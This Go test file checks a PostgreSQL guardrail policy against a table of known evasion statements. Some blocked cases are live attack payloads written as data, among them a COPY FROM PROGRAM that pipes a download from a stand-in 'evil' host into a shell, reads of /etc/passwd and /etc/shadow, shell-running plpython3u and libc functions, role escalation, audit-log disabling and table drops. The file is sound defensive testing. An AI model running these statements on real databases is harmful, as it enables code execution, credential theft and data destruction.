package policy

import (
	"testing"
)

// evasions are attempts, collected from public write-ups of SQL-firewall and PostgreSQL
// privilege-escalation bypasses, to get a dangerous statement past a guardrail, each with
// the default policy's expected decision. rule "" means allowed by default.
var evasions = []struct {
	sql    string
	action string
	rule   string
}{
	// Ordinary traffic stays allowed.
	{"SELECT * FROM users WHERE id = 1", ActionAllow, ""},
	{"INSERT INTO audit(a) VALUES (1) RETURNING id", ActionAllow, ""},
	{"UPDATE users SET name = 'x' WHERE id = 7", ActionAllow, ""},
	{"DELETE FROM sessions WHERE expires_at < now()", ActionAllow, ""},
	{"BEGIN; UPDATE a SET x = 1 WHERE id = 2; COMMIT", ActionAllow, ""},
	{"SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE SAVEPOINT s", ActionAllow, ""},
	{"SET statement_timeout = '30s'", ActionAllow, ""},
	{"SET application_name = 'report'", ActionAllow, ""},
	{"SET search_path TO app, public", ActionAllow, ""},
	{"SET LOCAL lock_timeout = '1s'", ActionAllow, ""},
	{"SHOW server_version", ActionAllow, ""},
	{"SELECT 'pg_read_file'::regproc", ActionAllow, ""},
	{"SELECT 'DROP TABLE users' AS text", ActionAllow, ""},
	{"SELECT 1 /* ; DROP TABLE users */", ActionAllow, ""},
	{"SELECT $$; DROP TABLE users; $$", ActionAllow, ""},
	{"COPY users TO STDOUT WITH (FORMAT csv)", ActionAllow, ""},
	{"COPY users FROM STDIN", ActionAllow, ""},
	{"CREATE TABLE t (id int)", ActionAllow, ""},
	{"EXPLAIN DELETE FROM users", ActionAllow, ""},
	{"EXECUTE get_user(1)", ActionAlert, "execute-prepared"},

	// DROP and TRUNCATE, however spelled.
	{"DROP TABLE users", ActionBlock, "drop"},
	{"drop  table/**/users", ActionBlock, "drop"},
	{"DrOp TaBlE \"users\"", ActionBlock, "drop"},
	{`DROP TABLE U&"\0075sers"`, ActionBlock, "drop"},
	{"SELECT 1; DROP TABLE users", ActionBlock, "drop"},
	{"SELECT 1;DROP TABLE users;--", ActionBlock, "drop"},
	{"/* harmless */ DROP SCHEMA public CASCADE", ActionBlock, "drop"},
	{"DROP DATABASE prod", ActionBlock, "drop"},
	{"DROP OWNED BY app", ActionBlock, "drop"},
	{"TRUNCATE users", ActionBlock, "truncate"},
	{"TRUNCATE ONLY users RESTART IDENTITY CASCADE", ActionBlock, "truncate"},
	{"SELECT 1; TRUNCATE users", ActionBlock, "truncate"},

	// UPDATE/DELETE without an effective WHERE.
	{"DELETE FROM users", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE 1=1", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE 'a'='a'", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE id=id", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE id = 5 OR 1=1", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE id = 5 OR true", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE NOT false", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE id IS NOT NULL OR id IS NULL", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE 2-1 = 1", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE 'x' LIKE '%'", ActionBlock, "no-effective-where"},
	{"DELETE FROM users WHERE name LIKE '%%'", ActionBlock, "no-effective-where"},
	{"UPDATE users SET admin = true", ActionBlock, "no-effective-where"},
	{"UPDATE users SET admin = true WHERE true", ActionBlock, "no-effective-where"},
	{"UPDATE users SET admin = true WHERE 'yes'::boolean", ActionBlock, "no-effective-where"},
	{"WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", ActionBlock, "no-effective-where"},
	{"WITH x AS (SELECT 1), d AS (UPDATE users SET a = 1 RETURNING 1) SELECT 1", ActionBlock, "no-effective-where"},
	{"EXPLAIN ANALYZE DELETE FROM users", ActionBlock, "no-effective-where"},
	{"EXPLAIN (ANALYZE true, FORMAT json) UPDATE users SET a = 1", ActionBlock, "no-effective-where"},
	{"PREPARE p AS DELETE FROM users", ActionBlock, "no-effective-where"},
	{"PREPARE p AS DELETE FROM users WHERE $1", ActionBlock, "no-effective-where"},
	{"MERGE INTO users u USING staging s ON true WHEN MATCHED THEN DELETE", ActionBlock, "no-effective-where"},
	{"MERGE INTO users u USING staging s ON 1=1 WHEN MATCHED THEN UPDATE SET a = s.a", ActionBlock, "no-effective-where"},
	{"COPY (DELETE FROM users RETURNING *) TO STDOUT", ActionBlock, "no-effective-where"},
	{"SELECT 1; DELETE FROM users", ActionBlock, "no-effective-where"},
	{"DO $$ BEGIN DELETE FROM users; END $$", ActionBlock, "no-effective-where"},

	// Server files and programs, remote access, server control.
	{"COPY users FROM '/etc/passwd'", ActionBlock, "server-access"},
	{"COPY users TO '/tmp/dump.csv'", ActionBlock, "server-access"},
	{"COPY users FROM PROGRAM 'curl http://evil | sh'", ActionBlock, "server-access"},
	{"copy (select '') to program 'bash -c \"id\"'", ActionBlock, "server-access"},
	{"SELECT pg_read_file('/etc/passwd')", ActionBlock, "server-access"},
	{"SELECT pg_catalog.pg_read_file('/etc/passwd')", ActionBlock, "server-access"},
	{`SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, ActionBlock, "server-access"},
	{"SELECT PG_READ_FILE('/etc/passwd')", ActionBlock, "server-access"},
	{"SELECT pg_read_binary_file('/etc/shadow')::text", ActionBlock, "server-access"},
	{"SELECT CAST(pg_read_file('postgresql.auto.conf') AS text)", ActionBlock, "server-access"},
	{"SELECT * FROM pg_ls_dir('/')", ActionBlock, "server-access"},
	{"SELECT (pg_stat_file('base')).size", ActionBlock, "server-access"},
	{"SELECT lo_import('/etc/passwd')", ActionBlock, "server-access"},
	{"SELECT lo_export(1234, '/tmp/x')", ActionBlock, "server-access"},
	{"SELECT id FROM users WHERE id = (SELECT length(pg_read_file('/etc/passwd')))", ActionBlock, "server-access"},
	{"SELECT * FROM users ORDER BY pg_read_file('/etc/hostname')", ActionBlock, "server-access"},
	{"SELECT * FROM dblink('host=10.0.0.1 user=postgres', 'SELECT 1') AS t(a int)", ActionBlock, "server-access"},
	{"SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", ActionBlock, "server-access"},
	{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ActionBlock, "server-access"},
	{"SELECT pg_cancel_backend(42)", ActionBlock, "server-access"},
	{"SELECT pg_reload_conf()", ActionBlock, "server-access"},
	{"CREATE EXTENSION IF NOT EXISTS dblink", ActionBlock, "server-access"},
	{"CREATE EXTENSION plpython3u", ActionBlock, "server-access"},
	{"ALTER SYSTEM SET shared_preload_libraries = 'evil'", ActionBlock, "server-access"},
	{"CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS 'import os; return os.popen(args[0]).read()'", ActionBlock, "server-access"},
	{"CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT", ActionBlock, "server-access"},
	{"CREATE FUNCTION f() RETURNS text LANGUAGE plperlu AS $$ `id` $$", ActionBlock, "server-access"},
	{"DO LANGUAGE plpython3u $$ import os $$", ActionBlock, "server-access"},
	{"LOAD '/tmp/evil.so'", ActionBlock, "server-access"},
	{"CREATE OPERATOR !!! (RIGHTARG = text, FUNCTION = pg_read_file)", ActionBlock, "server-access"},
	{"CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", ActionBlock, "server-access"},
	{"CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", ActionBlock, "server-access"},
	{"CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", ActionBlock, "server-access"},

	// Identity and session escape.
	{"SET ROLE postgres", ActionBlock, "identity-escape"},
	{"SET LOCAL role postgres", ActionBlock, "identity-escape"},
	{"set role = 'postgres'", ActionBlock, "identity-escape"},
	{`SET "role" TO postgres`, ActionBlock, "identity-escape"},
	{"RESET ROLE", ActionBlock, "identity-escape"},
	{"SET SESSION AUTHORIZATION postgres", ActionBlock, "identity-escape"},
	{"SET SESSION AUTHORIZATION DEFAULT", ActionBlock, "identity-escape"},
	{"RESET ALL", ActionBlock, "identity-escape"},
	{"SELECT set_config('role', 'postgres', false)", ActionBlock, "identity-escape"},
	{"SELECT pg_catalog.set_config('ROLE', 'postgres', true)", ActionBlock, "identity-escape"},
	{"SELECT set_config('session_authorization', 'postgres', false)", ActionBlock, "identity-escape"},
	{"SELECT set_config(lower('ROLE'), 'postgres', false)", ActionBlock, "identity-escape"},
	{"SELECT * FROM users WHERE set_config('role', 'postgres', true) IS NOT NULL", ActionBlock, "identity-escape"},
	{"SET session_replication_role = replica", ActionBlock, "identity-escape"},
	{"SELECT set_config('session_replication_role', 'replica', false)", ActionBlock, "identity-escape"},
	{"SET pgaudit.log = 'none'", ActionBlock, "identity-escape"},
	{"SET log_statement = 'none'", ActionBlock, "identity-escape"},
	{"UPDATE users SET a = 1 WHERE id = 1; SET ROLE admin", ActionBlock, "identity-escape"},

	// SQL the parser cannot see.
	{"DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", ActionBlock, "dynamic-sql"},
	{"DO $x$ BEGIN PERFORM 1; END $x$", ActionBlock, "dynamic-sql"},
	{"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'TRUNC' || 'ATE users'; END $$", ActionBlock, "dynamic-sql"},
	{"CREATE FUNCTION f(q text) RETURNS SETOF record LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE q; END $$", ActionBlock, "dynamic-sql"},
	{"SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')", ActionBlock, "dynamic-sql"},
	{"SELECT ts_stat('DELETE FROM users RETURNING to_tsvector(name)')", ActionBlock, "dynamic-sql"},

	// Schema, privilege and code changes wait for approval.
	{"ALTER TABLE users DROP COLUMN email", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER TABLE users ALTER COLUMN id TYPE bigint", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER TABLE users ALTER id SET DATA TYPE text", ActionRequireApproval, "schema-and-privilege-changes"},
	{"GRANT ALL ON users TO public", ActionRequireApproval, "schema-and-privilege-changes"},
	{"REVOKE SELECT ON users FROM app", ActionRequireApproval, "schema-and-privilege-changes"},
	{"GRANT pg_read_server_files TO app", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER ROLE app SUPERUSER", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER USER app WITH BYPASSRLS", ActionRequireApproval, "schema-and-privilege-changes"},
	{"CREATE ROLE eve LOGIN PASSWORD 'x'", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app", ActionRequireApproval, "schema-and-privilege-changes"},
	{"CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", ActionRequireApproval, "schema-and-privilege-changes"},
	{"CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()", ActionRequireApproval, "schema-and-privilege-changes"},
	{"CREATE RULE r AS ON SELECT TO users DO INSTEAD NOTHING", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER FUNCTION f() SECURITY DEFINER", ActionRequireApproval, "schema-and-privilege-changes"},
	{"ALTER TABLE users OWNER TO eve", ActionRequireApproval, "schema-and-privilege-changes"},

	// Unreadable text is never safe.
	{"SELEC * FROM users", ActionBlock, "unparseable"},
	{"SELECT 'unterminated", ActionBlock, "unparseable"},
	{"SELECT 1\x00; DROP TABLE users", ActionBlock, "unparseable"},
	{"DELETE FROM users WHERE", ActionBlock, "unparseable"},

	// The worst statement decides a multi-statement message.
	{"GRANT SELECT ON a TO b; DROP TABLE c", ActionBlock, "drop"},
	{"SELECT 1; GRANT SELECT ON a TO b", ActionRequireApproval, "schema-and-privilege-changes"},
}

func TestDefaultPolicyEvasions(t *testing.T) {
	e, err := NewEngine(Default())
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range evasions {
		d := e.Decide(&Request{Protocol: "postgres", SQL: tc.sql, Source: "proxy", DBUser: "app", Database: "prod"})
		rule := tc.rule
		if rule == "" {
			rule = DefaultRule
		}
		if d.Action != tc.action || d.Rule != rule {
			t.Errorf("%q: %s by %s, want %s by %s (flags %s)", tc.sql, d.Action, d.Rule, tc.action, rule, d.Info.Flags)
		}
		if d.Action != ActionAllow && d.Message == "" {
			t.Errorf("%q: %s without a message", tc.sql, d.Action)
		}
	}
}

func TestDefaultPolicyMySQLIsNotGuessed(t *testing.T) {
	e, err := NewEngine(Default())
	if err != nil {
		t.Fatal(err)
	}
	d := e.Decide(&Request{Protocol: "mysql", SQL: "SELECT 1", Source: "proxy"})
	if d.Action != ActionBlock || d.Rule != "unparseable" {
		t.Errorf("mysql: %s by %s, want block by unparseable", d.Action, d.Rule)
	}
}
